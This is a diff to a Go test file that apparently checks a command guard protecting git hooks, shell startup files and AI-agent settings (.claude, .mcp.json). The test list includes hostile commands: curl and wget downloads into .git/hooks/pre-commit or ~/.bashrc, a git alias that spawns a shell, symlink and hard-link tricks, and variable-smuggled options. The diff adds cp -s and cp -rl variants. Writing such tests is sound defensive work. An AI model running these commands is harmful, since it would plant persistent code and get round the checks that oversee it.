@@ -167,7 +167,7 @@ func TestAttackProtectedCommands(t *testing.T) {
 		"cp x .mcp.json", "cp x .vscode/tasks.json", "mkdir .idea", "git config core.hooksPath /tmp/h",
 		"git config --global alias.x '!sh'", "cd .git && touch hooks/x", "cd .git/hooks; cp /tmp/x pre-commit",
 		"cp x .GIT/hooks/pre-commit", "tar -xf a.tar -C .git", "cp x \"$D\"", "ls | xargs -I{} cp {} .git/hooks/",
-		"ln -s .git/hooks h", "ln -s ../.claude c", "ln -sf ~/.bashrc rc",
+		"ln -s .git/hooks h", "ln -s ../.claude c", "cp -s .git/config c", "cp -rl .git g", "ln -sf ~/.bashrc rc",
 		"curl -o .git/hooks/pre-commit x", "wget -O ~/.bashrc x", "cd .claude && curl -O https://h/settings.json",
 		"tar -xf a.tar .git/hooks/pre-commit", "tar -xf a.tar -C .claude settings.json",
 		"O='-t .git/hooks'; cp $O a b", "O='-o .git/hooks/x'; curl $O https://h/x", "wget $O https://h/x",
